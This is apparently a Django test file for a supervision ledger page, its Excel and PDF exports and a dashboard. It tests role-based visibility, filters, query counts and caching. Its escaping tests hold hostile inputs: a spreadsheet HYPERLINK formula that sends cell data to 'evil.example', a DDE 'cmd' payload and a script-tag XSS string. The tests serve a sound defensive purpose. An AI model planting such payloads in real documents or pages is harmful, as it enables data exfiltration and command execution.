"""The ledger page, its Excel and PDF exports and the dashboard: who sees what, filters, escaping, queries."""

import io
import re
from urllib.parse import unquote

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from responsibility.supervision import ledger as ledger_module
from responsibility.supervision.views import ledger as ledger_views
from tests.responsibility.inspections.ledger_helpers import ledger_scenario, move, record
from tests.responsibility.pdf.reading import compact, pdf_text

pytestmark = pytest.mark.django_db

LEDGER = reverse("responsibility:ledger")
XLSX = reverse("responsibility:ledger-export-xlsx")
PDF = reverse("responsibility:ledger-export-pdf")
DASHBOARD = reverse("responsibility:ledger-dashboard")
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE_SCRIPT = "<script>alert('x')</script>材料不全"


@pytest.fixture
def scenario(supervision, drawn):
    return ledger_scenario(supervision, drawn)


def _titles(response) -> list[str]:
    return [row.finding.title for row in response.context["rows"]]


def _queries(client, user, path) -> int:
    client.force_login(user)
    client.get(path)  # warm the per-process caches (content types) so that only the data varies
    with CaptureQueriesContext(connection) as captured:
        response = client.get(path)
    assert response.status_code == 200
    return len(captured)


def _more_findings(supervision, scenario, count: int) -> None:
    """`count` more findings in both units, in several states."""
    states = ("open", "submitted", "verified", "closed")
    for number in range(count):
        inspection = scenario.committee if number % 2 else scenario.other
        extra = {} if number % 2 else {"category": "rules"}
        move(
            record(inspection, title=f"补充问题{number}", **extra),
            states[number % 4],
            supervision=supervision,
        )


# --- the page -------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["inspector", "office_admin", "secretary"])
def test_readers_of_the_whole_ledger_see_every_finding_and_the_dashboard_link(
    client, supervision, scenario, who
):
    client.force_login(getattr(supervision.org, who))

    response = client.get(LEDGER)

    assert response.status_code == 200
    assert len(response.context["rows"]) == 7
    assert response.context["summary"].total == 7
    assert DASHBOARD.encode() in response.content
    assert f'href="{LEDGER}"'.encode() in response.content  # the menu entry


def test_a_unit_head_sees_only_their_units_rows_and_no_menu_entry_or_dashboard(client, supervision, scenario):
    # given the head of 教育科学文化卫生委员会
    client.force_login(supervision.heads[scenario.other.unit_id])

    # when
    response = client.get(LEDGER)

    # then
    assert response.status_code == 200
    assert sorted(_titles(response)) == sorted(["制度汇编未更新", "述责述廉报告未提交"])
    assert [group.name for group in response.context["units_behind"]] == ["教育科学文化卫生委员会"]
    assert "法制工作委员会" not in response.content.decode()
    assert f'href="{LEDGER}"'.encode() not in response.content
    assert DASHBOARD.encode() not in response.content


def test_somebody_with_nothing_to_see_gets_an_empty_ledger_with_a_sentence(client, supervision, scenario):
    client.force_login(supervision.org.outsider)

    response = client.get(LEDGER)

    assert response.status_code == 200
    assert response.context["rows"] == []
    assert "暂无与您有关的问题" in response.content.decode()


def test_the_ledger_needs_a_login(client):
    response = client.get(LEDGER)

    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_the_list_is_red_first_with_light_badges_and_links_to_the_findings(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(LEDGER)

    content = response.content.decode()
    assert _titles(response)[:2] == ["述责述廉报告未提交", "廉政风险点排查未更新"]
    assert content.count('class="badge light-red"><span class="light-dot"') == 2
    assert content.count('class="badge light-yellow"><span class="light-dot"') == 1
    late = scenario.findings["late_submitted"]
    assert reverse("responsibility:finding-detail", args=[late.pk]) in content


def test_filters_narrow_the_list_and_the_export_links_keep_them(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(LEDGER, {"light": "red", "unit": scenario.other.unit_id})

    assert _titles(response) == ["述责述廉报告未提交"]
    assert response.context["summary"].total == 1
    content = response.content.decode()
    for export in (XLSX, PDF):
        link = re.search(rf'href="({re.escape(export)}\?[^"]*)"', content).group(1)
        assert "light=red" in link and f"unit={scenario.other.unit_id}" in link


def test_a_bad_filter_value_is_reported_and_ignored(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(LEDGER, {"state": "bogus", "batch": "999999", "source": "x", "page": "x"})

    assert response.status_code == 200
    assert set(response.context["filter_form"].errors) == {"state", "batch", "source"}
    assert len(response.context["rows"]) == 7


def test_the_list_is_paginated_by_50(client, supervision, scenario):
    _more_findings(supervision, scenario, 44)  # 51 in all
    client.force_login(supervision.org.inspector)

    first = client.get(LEDGER)
    second = client.get(LEDGER, {"page": 2})

    assert len(first.context["rows"]) == 50
    assert len(second.context["rows"]) == 1


def test_user_text_is_escaped_on_the_page(client, supervision, scenario):
    record(scenario.committee, title=HOSTILE_SCRIPT)
    client.force_login(supervision.org.inspector)

    content = client.get(LEDGER).content.decode()

    assert "<script>alert" not in content
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;材料不全" in content


def test_the_ledger_page_runs_the_same_queries_for_few_and_many_findings(client, supervision, scenario):
    head = supervision.heads[scenario.committee.unit_id]
    few = _queries(client, supervision.org.inspector, LEDGER)
    few_head = _queries(client, head, LEDGER)
    few_filtered = _queries(
        client, supervision.org.inspector, f"{LEDGER}?light=red&batch={supervision.plan.batch.pk}"
    )

    _more_findings(supervision, scenario, 12)

    assert _queries(client, supervision.org.inspector, LEDGER) == few
    assert _queries(client, head, LEDGER) == few_head
    filtered = f"{LEDGER}?light=red&batch={supervision.plan.batch.pk}"
    assert _queries(client, supervision.org.inspector, filtered) == few_filtered


# --- Excel ----------------------------------------------------------------------------------------


def _workbook(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_the_excel_export_holds_every_visible_row_and_the_counts_in_four_sheets(
    client, supervision, scenario
):
    client.force_login(supervision.org.inspector)

    response = client.get(XLSX)

    workbook = _workbook(response)
    assert response["Content-Type"] == ledger_views.XLSX_CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="rectification-ledger-')
    assert unquote(disposition.split("filename*=UTF-8''")[1]).endswith(".xlsx")
    ledger, by_unit, by_source, by_batch = workbook.worksheets
    assert ledger.freeze_panes == "A2"
    assert ledger.max_row == 1 + 7
    references = [row[0] for row in ledger.iter_rows(min_row=2, values_only=True)]
    assert sorted(references) == sorted(finding.reference for finding in scenario.findings.values())
    first = next(ledger.iter_rows(min_row=2, max_row=2))
    assert [cell.value for cell in first[1:3]] == ["监督检查", supervision.plan.title]  # source, list
    assert first[4].value == "述责述廉报告未提交"  # red first
    assert first[10].is_date  # the deadline is a real date
    assert [row[0] for row in by_unit.iter_rows(min_row=2, values_only=True)][:2] == [
        "法制工作委员会",
        "教育科学文化卫生委员会",
    ]
    assert [row[1] for row in by_unit.iter_rows(min_row=2, values_only=True)] == [5, 2, 7]  # and the total
    assert [row[:2] for row in by_source.iter_rows(min_row=2, values_only=True)] == [
        ("监督检查", 7),
        ("合计", 7),
    ]
    assert by_batch.cell(row=2, column=1).value == supervision.plan.title


def test_the_excel_export_keeps_the_filters_and_the_unit_heads_view(client, supervision, scenario):
    client.force_login(supervision.heads[scenario.committee.unit_id])

    ledger = _workbook(client.get(XLSX, {"light": "red"})).worksheets[0]

    assert [row[4] for row in ledger.iter_rows(min_row=2, values_only=True)] == ["廉政风险点排查未更新"]


def test_hostile_text_never_becomes_a_formula_in_the_excel_export(client, supervision, scenario):
    record(scenario.committee, title=HOSTILE_FORMULA)
    record(scenario.committee, title="+cmd|' /C calc'!A0")
    client.force_login(supervision.org.inspector)

    workbook = _workbook(client.get(XLSX))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    hostile = [cell for cell in cells if cell.value == HOSTILE_FORMULA]
    assert len(hostile) == 1 and hostile[0].data_type == "s" and hostile[0].quotePrefix


def test_an_excel_export_too_large_is_refused_with_a_request_to_narrow_the_filter(
    client, supervision, scenario, monkeypatch
):
    monkeypatch.setattr(ledger_views, "XLSX_MAX_ROWS", 4)  # five moderate findings
    client.force_login(supervision.org.inspector)

    response = client.get(XLSX, {"severity": "moderate"}, follow=True)

    assert response.redirect_chain[-1][0] == f"{LEDGER}?severity=moderate"
    assert "请缩小筛选范围" in response.content.decode()


# --- PDF ------------------------------------------------------------------------------------------


def test_the_pdf_export_is_a_pdf_with_the_units_and_escaped_text(client, supervision, scenario):
    record(scenario.committee, title=HOSTILE_SCRIPT)
    client.force_login(supervision.org.inspector)

    response = client.get(PDF, {"batch": supervision.plan.batch.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith('attachment; filename="rectification-ledger-')
    assert response.content.startswith(b"%PDF")
    text = compact(pdf_text(response.content))
    assert "教育科学文化卫生委员会" in text
    assert "述责述廉报告未提交" in text
    assert supervision.plan.title in text  # the filter applied
    assert compact(HOSTILE_SCRIPT) in text  # shown as text, not taken as markup


def test_the_pdf_of_a_unit_head_holds_only_their_unit(client, supervision, scenario):
    client.force_login(supervision.heads[scenario.other.unit_id])

    text = compact(pdf_text(client.get(PDF).content))

    assert "制度汇编未更新" in text
    assert "法制工作委员会" not in text


def test_a_pdf_export_too_large_is_refused_and_the_page_says_so_beforehand(
    client, supervision, scenario, monkeypatch
):
    monkeypatch.setattr(ledger_views, "PDF_MAX_ROWS", 5)
    client.force_login(supervision.org.inspector)

    page = client.get(LEDGER).content.decode()
    response = client.get(PDF, follow=True)

    assert "超出 PDF 上限" in page
    assert f'href="{PDF}"' not in page
    assert response.redirect_chain[-1][0] == LEDGER
    assert "请缩小筛选范围" in response.content.decode()


# --- dashboard ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "status"),
    [("inspector", 200), ("office_admin", 200), ("secretary", 200), ("unit head", 403), ("outsider", 403)],
)
def test_the_dashboard_is_for_readers_of_the_whole_ledger(client, supervision, scenario, who, status):
    user = supervision.heads[scenario.other.unit_id] if who == "unit head" else getattr(supervision.org, who)
    client.force_login(user)

    assert client.get(DASHBOARD).status_code == status


def test_the_dashboard_draws_three_charts_with_their_numbers(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(DASHBOARD)

    content = response.content.decode()
    assert content.count('<svg class="chart') == 3
    assert content.count("<details>") == 3
    # no chart library: no script beyond those every signed-in page carries (the header's menu, the
    # idle-session warning …), as on the to-do page
    scripts = set(re.findall(r'<script[^>]* src="([^"]+)"', content))
    every_page = set(
        re.findall(r'<script[^>]* src="([^"]+)"', client.get(reverse("responsibility:todo")).content.decode())
    )
    assert "/static/accounts/session-idle.js" in scripts and scripts <= every_page
    # closure rate, lowest first: 法制工作委员会 0 %, then 教育科学文化卫生委员会 50 %
    assert [group.name for group in response.context["units"]] == ["法制工作委员会", "教育科学文化卫生委员会"]
    assert [bar.text for bar in response.context["closure_chart"].bars] == ["0.0%", "50.0%"]
    assert sum(item.count for item in response.context["categories"]) == 7
    assert len(response.context["trend"]) == 12
    assert response.context["trend"][-1].overdue == 2


def test_the_dashboard_is_narrowed_by_problem_list_and_source(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(DASHBOARD, {"batch": supervision.plan.batch.pk})
    by_source = client.get(DASHBOARD, {"source": supervision.plan.batch.source_id})
    empty = client.get(DASHBOARD, {"batch": "999999"})

    assert response.context["summary"].total == by_source.context["summary"].total == 7
    assert [(group.name, group.counts.total) for group, _rechecks in by_source.context["sources"]] == [
        ("监督检查", 7)
    ]
    assert empty.status_code == 200
    assert "batch" in empty.context["filter_form"].errors


def test_the_dashboard_runs_the_same_queries_for_few_and_many_findings(client, supervision, scenario):
    few = _queries(client, supervision.org.inspector, DASHBOARD)

    _more_findings(supervision, scenario, 12)

    assert _queries(client, supervision.org.inspector, DASHBOARD) == few


def test_the_dashboard_and_ledger_of_an_empty_ledger_say_so(client, supervision):
    # given no finding recorded yet
    client.force_login(supervision.org.office_admin)

    dashboard = client.get(DASHBOARD)
    ledger = client.get(LEDGER)

    assert dashboard.status_code == 200
    assert dashboard.context["units"] == []
    assert [point.overdue for point in dashboard.context["trend"]] == [0] * 12
    assert "尚未记录任何问题" in ledger.content.decode()


# --- figures kept in the cache, units page by page ------------------------------------------------

UNITS = reverse("responsibility:ledger-units")


def test_the_whole_ledgers_figures_are_kept_until_a_rectification_moves(client, supervision, scenario):
    # given the inspector opened the ledger once (the figures computed and kept)
    inspector = supervision.org.inspector
    client.force_login(inspector)
    with CaptureQueriesContext(connection) as cold:
        first = client.get(LEDGER)
    cold_queries = len(cold)  # read now: the next request empties the connection's query log
    with CaptureQueriesContext(connection) as warm:
        again = client.get(LEDGER)
    warm_queries = len(warm)

    # when a rectification is submitted through its service
    move(record(scenario.committee, title="新发现的问题"), "submitted", supervision=supervision)
    with CaptureQueriesContext(connection) as after_change:
        changed = client.get(LEDGER)

    # then the second opening reused what the first read and wrote: the counts kept in the database (none
    # yet), the three counts and the row that keeps them (written, the days before yesterday removed), and
    # the names of units and lists (two); the change was counted at once, from the counts in the cache:
    # the chain's events since, their findings' units, and that block's three counts
    assert cold_queries - warm_queries == 8
    assert again.context["summary"] == first.context["summary"]
    assert changed.context["summary"].total == first.context["summary"].total + 1
    assert changed.context["summary"].submitted == first.context["summary"].submitted + 1
    assert len(after_change) == cold_queries - 1


def test_a_unit_heads_figures_are_never_the_shared_ones(client, supervision, scenario):
    # given the shared figures are in the cache
    client.force_login(supervision.org.inspector)
    assert client.get(LEDGER).context["summary"].total == 7

    # when the head of 教育科学文化卫生委员会 opens the ledger and the units page
    client.force_login(supervision.heads[scenario.other.unit_id])
    ledger = client.get(LEDGER)
    units = client.get(UNITS)

    # then they count only their two findings
    assert ledger.context["summary"].total == 2
    assert [group.name for group in units.context["page_obj"]] == ["教育科学文化卫生委员会"]


def test_the_unit_is_found_by_words_in_its_name(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(LEDGER, {"unit_words": "教育科学"})

    assert sorted(_titles(response)) == sorted(["制度汇编未更新", "述责述廉报告未提交"])
    assert response.context["summary"].total == 2


def test_a_unit_chosen_from_a_count_table_is_named_beside_the_search(client, supervision, scenario):
    client.force_login(supervision.org.inspector)

    response = client.get(LEDGER, {"unit": scenario.other.unit_id})

    content = response.content.decode()
    assert "仅显示教育科学文化卫生委员会" in content
    assert f'type="hidden" name="unit" value="{scenario.other.unit_id}"' in content
    assert '<select name="unit"' not in content  # no list of every unit


def test_the_ledger_shows_the_units_furthest_behind_and_links_to_all_of_them(
    client, supervision, scenario, monkeypatch
):
    monkeypatch.setattr(ledger_views, "LEDGER_GROUPS_SHOWN", 1)
    client.force_login(supervision.org.inspector)

    response = client.get(LEDGER, {"severity": ""})

    # 法制工作委员会 has closed none of five; 教育科学文化卫生委员会 one of two
    assert [group.name for group in response.context["units_behind"]] == ["法制工作委员会"]
    assert response.context["units_total"] == 2
    assert f'href="{UNITS}?severity="'.encode() in response.content


def _second_list():
    """An audit's list, raised yesterday (newer than the fixture's democratic life meeting list), with one
    problem of the second committee."""
    import datetime

    from django.utils import timezone

    from accounts.models import OrgUnit
    from responsibility.supervision.models import ProblemBatch, ProblemSource, ProblemSourceCode
    from responsibility.supervision.services.problems import problem_batch_open, problem_record
    from tests.responsibility.inspections.conftest import batch_input, problem_input

    office = ProblemBatch.objects.filter(plan__isnull=True).first().created_by
    audit = problem_batch_open(
        data=batch_input(
            source=ProblemSource.objects.get(code=ProblemSourceCode.AUDIT),
            title="2026年度经济责任审计发现问题",
            raised_on=timezone.localdate() - datetime.timedelta(days=1),
        ),
        opened_by=office,
    )
    problem_record(
        batch=ProblemBatch.objects.get(pk=audit.pk),
        data=problem_input(OrgUnit.objects.get(name="财政经济工作委员会")),
        recorded_by=office,
    )
    return audit


def test_the_ledger_shows_the_lists_furthest_behind_and_links_to_all_of_them(
    client, supervision, problem_list, list_problem, monkeypatch
):
    # given two problem lists with a problem each (the plan's list has none)
    _second_list()
    monkeypatch.setattr(ledger_views, "LEDGER_GROUPS_SHOWN", 1)
    client.force_login(supervision.org.inspector)

    # when
    response = client.get(LEDGER)

    # then one of the two is shown, and the problem lists page is linked for all of them
    assert len(response.context["lists_behind"]) == 1
    assert response.context["lists_total"] == 2
    content = response.content.decode()
    assert "共 2 个问题清单，这里列出销号率最低的 1 个。" in content
    assert f'href="{reverse("responsibility:batch-list")}">查看全部 2 个问题清单</a>' in content


def test_the_ledgers_list_menu_offers_the_newest_lists_and_the_one_chosen(
    client, supervision, problem_list, list_problem, monkeypatch
):
    # given two lists, and a menu of one
    audit = _second_list()
    monkeypatch.setattr(ledger_module, "LEDGER_BATCH_CHOICES", 1)
    client.force_login(supervision.org.inspector)

    def offered(response) -> list[str]:
        return [str(choice) for choice in response.context["filter_form"].fields["batch"].queryset]

    # then the menu offers the newest list, and the older one when a list's page links to it
    assert offered(client.get(LEDGER)) == [audit.title]
    chosen = client.get(LEDGER, {"batch": problem_list.pk})
    assert offered(chosen) == [audit.title, problem_list.title]
    assert chosen.context["summary"].total == 1  # its one problem
    # and a list nobody may read, or no number at all, is not offered and filters nothing
    for value in ("999999", "x" * 30, "9" * 40):
        assert client.get(LEDGER, {"batch": value}).status_code == 200


def test_the_units_page_lists_every_unit_a_page_at_a_time_with_the_filters_kept(
    client, supervision, scenario, monkeypatch
):
    monkeypatch.setattr(ledger_views, "UNITS_PAGE_SIZE", 1)
    client.force_login(supervision.org.inspector)

    first = client.get(UNITS, {"light": "red"})
    second = client.get(UNITS, {"light": "red", "page": 2})

    assert [group.name for group in first.context["page_obj"]] == ["法制工作委员会"]
    assert [group.name for group in second.context["page_obj"]] == ["教育科学文化卫生委员会"]
    assert first.context["summary"].total == 2  # one red finding in each unit
    assert 'href="?light=red&amp;page=2"' in first.content.decode()
    # a unit's name opens its findings in the ledger
    assert f'href="{LEDGER}?unit={scenario.committee.unit_id}"' in first.content.decode()


def test_the_units_page_runs_the_same_queries_for_few_and_many_findings(client, supervision, scenario):
    few = _queries(client, supervision.org.inspector, UNITS)
    few_head = _queries(client, supervision.heads[scenario.committee.unit_id], UNITS)

    _more_findings(supervision, scenario, 12)

    assert _queries(client, supervision.org.inspector, UNITS) == few
    assert _queries(client, supervision.heads[scenario.committee.unit_id], UNITS) == few_head


def test_the_ledger_page_reads_the_same_queries_cold_for_few_and_many_findings(client, supervision, scenario):
    """The first opening after a change (the changed blocks counted again), after the cache was lost (the
    counts kept in the database read) and with nothing kept anywhere (every block counted) are fixed too."""
    from django.core.cache import cache

    from responsibility.supervision.models import KeptLedgerCounts

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            client.get(LEDGER)
        return len(captured)

    def nothing_kept() -> int:
        KeptLedgerCounts.objects.all().delete()
        cache.clear()
        return queries()

    client.force_login(supervision.org.inspector)
    client.get(LEDGER)
    _more_findings(supervision, scenario, 1)
    few_changed = queries()
    cache.clear()
    few_lost = queries()
    few_empty = nothing_kept()

    _more_findings(supervision, scenario, 12)
    many_changed = queries()
    cache.clear()
    many_lost = queries()
    many_empty = nothing_kept()

    assert (many_changed, many_lost, many_empty) == (few_changed, few_lost, few_empty)
    # changed: the events since the counts in the cache, their findings' units, that block's three counts;
    # lost: the same from the row kept in the database at the first count, read first; empty: the kept
    # row (none), the three counts of everything, the row written and the days before yesterday removed
    assert few_lost == few_changed + 1
    assert few_empty == few_changed + 1
